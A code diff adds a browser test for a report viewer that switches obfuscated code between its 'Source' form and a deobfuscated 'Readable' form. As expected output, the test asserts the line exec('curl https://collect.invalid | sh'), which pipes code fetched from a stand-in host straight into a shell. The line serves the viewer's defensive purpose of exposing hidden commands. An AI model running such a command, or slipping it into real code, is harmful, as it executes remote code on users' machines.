@@ -18,6 +18,7 @@ import {
   hostileTexts,
   html,
   nested,
+  obfuscated,
 } from './report-html-fabricated.js';
 
 const executable = await browserPath();
@@ -83,6 +84,9 @@ describe.skipIf(executable === undefined)('in a browser', () => {
           for (const each of document.querySelectorAll<HTMLElement>(`.panel ${kind}`)) each.click();
       });
       await expect.poll(() => page.locator('.viewer .code').first().textContent()).toContain(shown(text));
+      await page.evaluate(() => {
+        for (const each of document.querySelectorAll<HTMLElement>('.choice')) each.click();
+      });
       await page.locator('input').fill(text);
     }
     for (const text of HOSTILE.map(each => encodeURIComponent(each.toWellFormed())))
@@ -223,6 +227,21 @@ describe.skipIf(executable === undefined)('in a browser', () => {
     expect(await deep.locator('.viewer').textContent()).toContain('const run = 1');
     await deep.getByRole('button', { name: 'Close the text' }).click();
     expect(await deep.locator('.viewer').isVisible()).toBe(false);
+  });
+
+  test('a text can be read as it was written, and rewritten', async () => {
+    const { reports, texts } = await obfuscated();
+    await show(reports, { texts }, { hash: '#p=1' });
+    const step = page.locator('.step').first();
+    await step.locator('.open').first().click();
+    expect(await step.locator('.viewer .code').textContent()).toContain('_0x');
+    await step.getByRole('button', { name: 'Readable' }).click();
+    expect(await focused()).toBe('BUTTON');
+    expect(await step.locator('.viewer .code').textContent()).toContain(`exec('curl https://collect.invalid | sh')`);
+    expect(await step.locator('.viewer .meant').first().textContent()).toContain('curl');
+    expect(await step.locator('.viewer .faint').textContent()).toContain('rewritten to be read');
+    await step.getByRole('button', { name: 'Source' }).click();
+    expect(await step.locator('.viewer .code').textContent()).toContain('_0x');
   });
 
   test('it is dark or light, as the system says or its reader', async () => {
